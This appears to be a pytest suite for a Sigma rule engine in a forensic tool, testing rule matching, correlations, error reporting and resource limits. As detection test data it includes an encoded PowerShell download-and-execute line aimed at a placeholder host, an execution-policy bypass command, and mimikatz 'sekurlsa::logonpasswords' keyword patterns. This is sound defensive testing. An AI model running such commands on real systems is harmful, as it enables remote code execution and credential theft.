"""The Sigma engine: SigmaHQ's own regression samples, the rule semantics, bad rules, hostile inputs."""
from __future__ import annotations

import json
import resource
import textwrap
from pathlib import Path

import pytest
import yaml

from analysis.detect import engine, rules
from analysis.events import ParseReport
from analysis.parsers import evtx


@pytest.fixture(scope="module")
def everything():
    """Every shipped rule, every level and status, hunting included (what the regression data covers)."""
    return rules.load(min_level="informational", hunting=True)


def _rows(path, evidence_id="E1"):
    return [(e.timestamp, e.source, e.message, e.fields, e.evidence_id or evidence_id, e.locator)
            for e in evtx.parse(str(path), ParseReport(), evidence_id=evidence_id)]


def test_every_regression_sample_of_a_shipped_rule_fires_it(shared_data, everything):
    base = shared_data / "sigma"
    shipped = {r.id: r for r in everything.rules}
    passed, failed, not_shipped = [], [], []
    for info in sorted(base.glob("regression_data/**/info.yml")):
        meta = yaml.safe_load(info.read_text())
        for rm in meta["rule_metadata"]:
            if rm["id"] not in shipped:
                not_shipped.append(rm["id"])
                continue
            for t in meta["regression_tests_info"]:
                if t["type"] != "evtx":
                    continue
                res = engine.run(_rows(base / t["path"]), everything)
                n = sum(h.count for h in res.hits if h.rule.id == rm["id"])
                (passed if n >= 1 else failed).append(info.parent.name)
    print(f"\nSigmaHQ regression samples: {len(passed)} of {len(passed) + len(failed)} fire their rule "
          f"({len(not_shipped)} samples of rules not shipped: {not_shipped})")
    assert failed == []
    assert len(passed) == 201
    # the one sample not run: its rule uses '|expand' placeholders, listed as a rule that cannot compile
    assert len(not_shipped) == 1
    assert any("expand" in e.message for e in everything.errors)


def test_shipped_rules_compile_and_failures_are_listed(everything):
    s = everything.summary()
    assert s["rules"] > 3000 and s["failed"] == len(everything.errors) == 2
    for e in everything.errors:
        assert e.path.startswith("resources/rules/sigma/") and "expand" in e.message


def test_default_choice_leaves_out_low_and_hunting():
    rs = rules.load()
    assert all(r.level in ("medium", "high", "critical") for r in rs.rules if r.generate)
    # low-level base rules run only to feed a chosen correlation, raising no finding of their own
    assert sorted(r.id for r in rs.rules if not r.generate) == ["C6-failed-logon-windows", "C6-failed-ssh"]
    assert not any("rules-threat-hunting" in r.path for r in rs.rules)
    assert rs.not_selected > 200


def _custom(tmp_path: Path, text: str, name="r.yml") -> engine.RuleSet:
    d = tmp_path / "rules"
    d.mkdir(exist_ok=True)
    (d / name).write_text(textwrap.dedent(text))
    return rules.load([d], shipped=False)


def _win(eid=1, channel="Microsoft-Windows-Sysmon/Operational", provider="Microsoft-Windows-Sysmon", **data):
    return {"event_id": eid, "channel": channel, "provider": provider, "computer": "PC", "data": data}


def _hits(rs, events):
    rows = [(i, src, msg, f, "E1", f"record {i}") for i, (src, msg, f) in enumerate(events, 1)]
    return engine.run(rows, rs)


PROC = """
title: t
id: t-1
logsource: {category: process_creation, product: windows}
level: high
detection:
%s
"""


@pytest.mark.parametrize("detection,data,expect", [
    ("sel: {CommandLine|contains|all: [' -enc ', 'bypass']}\n condition: sel",
     {"CommandLine": "powershell -ExecutionPolicy BYPASS -enc AAA"}, True),
    ("sel: {CommandLine|contains|all: [' -enc ', 'bypass']}\n condition: sel",
     {"CommandLine": "powershell -enc AAA"}, False),
    ("sel: {Image|endswith: '\\\\cmd.exe'}\n condition: sel", {"Image": "C:\\WINDOWS\\System32\\CMD.EXE"}, True),
    ("sel: {Image: 'C:\\\\Windows\\\\*\\\\cmd.exe'}\n condition: sel", {"Image": "c:\\windows\\system32\\cmd.exe"}, True),
    ("sel: {Image: 'C:\\\\Windows\\\\*\\\\cmd.exe'}\n condition: sel", {"Image": "c:\\temp\\cmd.exe"}, False),
    ("sel: {Image: 'C:\\\\a?c.exe'}\n condition: sel", {"Image": "C:\\abc.exe"}, True),
    ("sel: {CommandLine: 'literal\\*star'}\n condition: sel", {"CommandLine": "literal*star"}, True),
    ("sel: {CommandLine: 'literal\\*star'}\n condition: sel", {"CommandLine": "literalXstar"}, False),
    ("sel: {CommandLine|base64offset|contains: 'http://'}\n condition: sel",
     {"CommandLine": "powershell -e " + __import__("base64").b64encode(b"IEX (New-Object Net.WebClient).DownloadString('http://x')").decode()}, True),
    ("sel: {CommandLine|wide|base64offset|contains: 'calc'}\n condition: sel",
     {"CommandLine": "-e " + __import__("base64").b64encode("start calc.exe".encode("utf-16-le")).decode()}, True),
    ("sel: {CommandLine|windash|contains: ' -s '}\n condition: sel", {"CommandLine": "whoami /s /all"}, True),
    ("sel: {CommandLine|re: 'whoami\\s+/all'}\n condition: sel", {"CommandLine": "whoami /all"}, True),
    ("sel: {CommandLine|re: 'WHOAMI'}\n condition: sel", {"CommandLine": "whoami /all"}, False),
    ("sel: {CommandLine|re|i: 'WHOAMI'}\n condition: sel", {"CommandLine": "whoami /all"}, True),
    ("sel: {CommandLine|cased: 'Whoami'}\n condition: sel", {"CommandLine": "whoami"}, False),
    ("sel: {Image|endswith: '.exe'}\n filter: {ParentImage: null}\n condition: sel and not filter",
     {"Image": "a.exe"}, False),
    ("sel: {Image|endswith: '.exe'}\n filter: {ParentImage: null}\n condition: sel and not filter",
     {"Image": "a.exe", "ParentImage": "b.exe"}, True),
    ("sel: {ParentImage|exists: false}\n condition: sel", {"Image": "a.exe"}, True),
    ("sel: {TerminalSessionId|gt: 1}\n condition: sel", {"TerminalSessionId": "2"}, True),
    ("sel: {TerminalSessionId|gte: 3}\n condition: sel", {"TerminalSessionId": "2"}, False),
    ("sel: {ParentImage|fieldref: Image}\n condition: sel", {"Image": "A.exe", "ParentImage": "a.exe"}, True),
    ("sel_a: {Image|endswith: x.exe}\n sel_b: {Image|endswith: y.exe}\n condition: 1 of sel_*",
     {"Image": "y.exe"}, True),
    ("sel_a: {Image|endswith: x.exe}\n sel_b: {CommandLine|contains: z}\n condition: all of sel_*",
     {"Image": "x.exe", "CommandLine": "q"}, False),
    ("sel:\n  - Image|endswith: x.exe\n  - CommandLine|contains: zz\n condition: sel", {"CommandLine": "-zz-"}, True),
    ("keywords: ['mimikatz', 'sekurlsa']\n condition: keywords", {"CommandLine": "run SEKURLSA::logonpasswords"}, True),
    ("sel: {Image|endswith: [a.exe, b.exe]}\n condition: not sel", {"Image": "c.exe"}, True),
])
def test_sigma_semantics(tmp_path, detection, data, expect):
    # continuation lines of `detection` start with one space (the test table's layout)
    lines = [ln[1:] if i and ln.startswith(" ") else ln for i, ln in enumerate(detection.split("\n"))]
    rs = _custom(tmp_path, PROC % textwrap.indent("\n".join(lines), "    "))
    assert rs.errors == [] and len(rs.rules) == 1
    res = _hits(rs, [("evtx", "", _win(1, **data))])
    assert bool(res.hits) is expect


def test_cidr_and_security_4688_mapping(tmp_path):
    rs = _custom(tmp_path, """
        title: net
        id: n-1
        logsource: {service: security, product: windows}
        detection:
            sel: {EventID: 4624, IpAddress|cidr: ['10.0.0.0/8', '2001:db8::/32']}
            condition: sel
        ---
        title: proc
        id: p-1
        logsource: {category: process_creation, product: windows}
        detection:
            sel: {Image|endswith: '\\whoami.exe', ParentImage|endswith: '\\cmd.exe', User: 'CORP\\bob'}
            condition: sel
        """)
    sec = dict(channel="Security", provider="Microsoft-Windows-Security-Auditing")
    res = _hits(rs, [("evtx", "", _win(4624, **sec, IpAddress="10.1.2.3")),
                     ("evtx", "", _win(4624, **sec, IpAddress="::ffff:10.9.9.9")),
                     ("evtx", "", _win(4624, **sec, IpAddress="192.0.2.1")),
                     ("evtx", "", _win(4688, **sec, NewProcessName="C:\\Windows\\System32\\whoami.exe",
                                       ParentProcessName="C:\\Windows\\System32\\cmd.exe",
                                       SubjectUserName="bob", SubjectDomainName="CORP"))])
    by = {h.rule.id: h for h in res.hits}
    assert by["n-1"].count == 2 and [k["locator"] for k in by["n-1"].keys] == ["record 1", "record 2"]
    assert by["p-1"].count == 1 and by["p-1"].first["image"].endswith("whoami.exe")


def test_a_bad_rule_names_file_and_line_and_the_others_run(tmp_path):
    d = tmp_path / "rules"
    d.mkdir()
    (d / "good.yml").write_text(PROC % "    sel: {Image|endswith: x.exe}\n    condition: sel")
    (d / "broken.yml").write_text("title: broken\nlogsource: {product: windows}\ndetection:\n  sel: [a\n")
    (d / "badcond.yml").write_text(textwrap.dedent("""\
        title: bad condition
        logsource: {product: windows, category: process_creation}
        detection:
            sel: {Image: x}
            condition: sel and filter
        """))
    (d / "badmod.yml").write_text(textwrap.dedent("""\
        title: bad modifier
        logsource: {product: windows, category: process_creation}
        detection:
            sel:
                Image|startswit: x
            condition: sel
        """))
    (d / "unknownfield.yml").write_text(textwrap.dedent("""\
        title: typo
        logsource: {product: windows, category: process_creation}
        detection:
            sel:
                CommandLien|contains: x
            condition: sel
        """))
    rs = rules.load([d], shipped=False)
    errs = {Path(e.path).name: e for e in rs.errors}
    assert set(errs) == {"broken.yml", "badcond.yml", "badmod.yml"}
    assert errs["broken.yml"].line == 5 and "not valid YAML" in errs["broken.yml"].message
    assert errs["badcond.yml"].line == 5 and "'filter', which is not a selection" in errs["badcond.yml"].message
    assert errs["badmod.yml"].line == 5 and "unknown modifier '|startswit'" in errs["badmod.yml"].message
    assert sorted(r.title for r in rs.rules) == ["t", "typo"]
    warn = [w for w in rs.warnings if "commandlien" in w.message]
    assert len(warn) == 1 and warn[0].line == 5 and Path(warn[0].path).name == "unknownfield.yml"
    res = _hits(rs, [("evtx", "", _win(1, Image="C:\\x.exe"))])
    assert [h.rule.title for h in res.hits] == ["t"]


def test_missing_folder_and_non_rule_yaml_are_errors(tmp_path):
    (tmp_path / "list.yml").write_text("- a\n- b\n")
    rs = rules.load([tmp_path / "nope", tmp_path / "list.yml"], shipped=False)
    msgs = sorted(e.message for e in rs.errors)
    assert msgs == ["a YAML document that is not a Sigma rule (not a map)", "no such rule folder or file"]


CORR = """
title: failed logon
name: failed_logon
id: f-1
logsource: {product: windows, service: security}
detection:
    sel: {EventID: 4625}
    condition: sel
---
title: success
name: ok_logon
id: s-1
logsource: {product: windows, service: security}
detection:
    sel: {EventID: 4624}
    condition: sel
---
title: many failures
id: c-count
correlation:
    type: event_count
    rules: [failed_logon]
    group-by: [IpAddress]
    timespan: 10m
    condition: {gte: 5}
level: high
---
title: many accounts
id: c-values
correlation:
    type: value_count
    rules: [failed_logon]
    group-by: [IpAddress]
    timespan: 10m
    condition: {field: TargetUserName, gte: 3}
level: high
---
title: failures then success
id: c-seq
correlation:
    type: temporal_ordered
    rules: [failed_logon, ok_logon]
    group-by: [IpAddress]
    timespan: 1h
level: critical
"""


def test_correlations_over_the_timeline(tmp_path):
    rs = _custom(tmp_path, CORR)
    assert rs.errors == [] and len(rs.correlations) == 3
    sec = dict(channel="Security", provider="Microsoft-Windows-Security-Auditing")
    minute = 60_000_000
    rows = []
    for i in range(6):  # six failures from one address, two accounts, one a minute
        rows.append((i * minute, "evtx", "", _win(4625, **sec, IpAddress="203.0.113.9",
                                                  TargetUserName=["admin", "root"][i % 2]), "E1", f"record {i}"))
    rows.append((2 * minute, "evtx", "", _win(4625, **sec, IpAddress="198.51.100.1", TargetUserName="x"), "E1", "record 50"))
    rows.append((7 * minute, "evtx", "", _win(4624, **sec, IpAddress="203.0.113.9", TargetUserName="admin"), "E2", "record 7"))
    rows.append((90 * minute, "evtx", "", _win(4624, **sec, IpAddress="198.51.100.1", TargetUserName="x"), "E2", "record 8"))
    res = engine.run(rows, rs)
    by = {}
    for h in res.hits:
        by.setdefault(h.rule.id, []).append(h)
    # base rules of a correlation raise no finding of their own (Sigma's generate: false)
    assert set(by) == {"c-count", "c-seq"}
    assert [h.group for h in by["c-count"]] == [{"ipaddress": "203.0.113.9"}]
    assert by["c-count"][0].count == 5 and by["c-count"][0].first_ts == 0
    # 198.51.100.1: its success came 88 minutes after its failure, outside the 1 h window
    seq = by["c-seq"]
    assert [h.group for h in seq] == [{"ipaddress": "203.0.113.9"}] and seq[0].evidence_ids == ["E1", "E2"]
    assert seq[0].keys[-1] == {"evidence_id": "E2", "locator": "record 7"}


def test_value_count_fires_on_distinct_values(tmp_path):
    rs = _custom(tmp_path, CORR)
    sec = dict(channel="Security", provider="Microsoft-Windows-Security-Auditing")
    rows = [(i, "evtx", "", _win(4625, **sec, IpAddress="203.0.113.9", TargetUserName=u), "E1", f"r{i}")
            for i, u in enumerate(["a", "b", "a", "c"])]
    res = engine.run(rows, rs)
    assert [h.rule.id for h in res.hits] == ["c-values"] and res.hits[0].count == 4


def test_bad_correlation_is_an_error(tmp_path):
    rs = _custom(tmp_path, """
        title: c
        correlation: {type: event_count, rules: [x], timespan: 5 minutes, condition: {gte: 2}}
        """)
    assert len(rs.errors) == 1 and "bad timespan '5 minutes'" in rs.errors[0].message


def test_a_100_mb_field_is_matched_bounded(tmp_path):
    rs = _custom(tmp_path, PROC % "    sel: {CommandLine|contains: 'needle'}\n    condition: sel")
    big = "A" * (100 << 20)
    rows = [(1, "evtx", "", _win(1, CommandLine="needle " + big), "E1", "record 1"),
            (2, "evtx", "", _win(1, CommandLine=big + " needle"), "E1", "record 2")]
    del big
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    res = engine.run(rows, rs)
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    # the first MiB of each value is matched: the needle at the start is found, the one after 100 MB is not
    assert res.long_values == 2 and [h.count for h in res.hits] == [1]
    assert len(res.hits[0].first["commandline"]) < 1000  # key fields are cut for display
    assert grown_mb < 30, grown_mb  # no copy of the 100 MB values


def test_detection_is_a_cancellable_generator(tmp_path):
    import threading

    rs = _custom(tmp_path, PROC % "    sel: {Image|endswith: x.exe}\n    condition: sel")
    cancel = threading.Event()
    rows = ((i, "evtx", "", json.dumps(_win(1, Image="x.exe")), "E1", f"r{i}") for i in range(100_000))
    gen = engine.iter_detect(rows, rs, cancel=cancel, every=1000)
    p = next(gen)
    assert p.done == 1000 and p.matches == 999
    cancel.set()
    with pytest.raises(StopIteration) as stop:
        next(gen)
    assert stop.value.value.cancelled and stop.value.value.hits[0].count == 1999


def test_log_cleared_keeps_its_channel(evtx_dir, everything):
    rows = _rows(evtx_dir / "attack-samples/Defense_Evasion/DE_1102_security_log_cleared.evtx")
    f = [r[3] for r in rows if r[3].get("event_id") == 1102][0]
    assert f["channel"] == "Security" and f["cleared_log"] == "Security"
    res = engine.run(rows, everything)
    assert "Security Eventlog Cleared" in {h.rule.title for h in res.hits}


def test_a_used_rule_set_is_freed_without_the_cycle_collector(evtx_dir):
    """The compiled buckets and rule functions hold no reference cycle with their rule set: dropping it frees
    it at once (a cycle would wait for a full garbage collection pass, which holds the interpreter lock)."""
    import gc
    import weakref

    rows = []
    for f in sorted((evtx_dir / "attack-samples").rglob("*.evtx"))[:6]:
        rows += _rows(f)
    rs = rules.load(min_level="informational", hunting=True)
    was_enabled = gc.isenabled()
    gc.disable()
    try:
        res = engine.run(rows, rs)
        assert res.hits and len(rs._fns) > 1                     # buckets were compiled and rules fired
        fns = [f for f in rs._fns.values() if f is not None]
        assert any(f.plain is not None for f in fns)
        gone = weakref.ref(rs)
        plain = weakref.ref(next(f.plain for f in fns if f.plain is not None))
        del rs, fns
        assert gone() is None and plain() is None
        assert res.hits[0].rule.title                            # the findings keep their rules
    finally:
        if was_enabled:
            gc.enable()


@pytest.mark.parametrize("text,message", [
    ("action: global\ntitle: g\nlogsource: {product: windows}\n",
     "rule collections with 'action: global/reset/repeat' are not supported"),
    ("title: agg\nlogsource: {product: windows, service: security}\ndetection:\n  sel: {EventID: 4625}\n"
     "  condition: sel | count() by IpAddress > 10\n",
     "aggregation conditions ('| count() ...') are not supported; write a correlation rule"),
    ("title: re\nlogsource: {product: windows, category: process_creation}\ndetection:\n  sel:\n"
     "    CommandLine|re: '(unclosed'\n  condition: sel\n", "bad regular expression '(unclosed'"),
    ("title: nolog\ndetection:\n  sel: {a: b}\n  condition: sel\n", "the rule has no 'logsource'"),
    ("title: lvl\nlevel: severe\nlogsource: {product: windows}\ndetection:\n  sel: {a: b}\n  condition: sel\n",
     "level 'severe' is not one of informational, low, medium, high, critical"),
])
def test_unsupported_rules_say_why(tmp_path, text, message):
    (tmp_path / "r.yml").write_text(text)
    rs = rules.load([tmp_path / "r.yml"], shipped=False)
    assert len(rs.errors) == 1 and message in rs.errors[0].message and rs.rules == []


def test_a_rule_for_a_log_source_ungcuu_lacks_is_a_warning(tmp_path):
    (tmp_path / "r.yml").write_text("title: aws\nlogsource: {product: aws, service: cloudtrail}\n"
                                    "detection:\n  sel: {eventName: x}\n  condition: sel\n")
    rs = rules.load([tmp_path / "r.yml"], shipped=False)
    assert rs.errors == [] and len(rs.rules) == 1
    assert "no UngCuu event has the log source" in rs.warnings[0].message and rs.warnings[0].line == 2
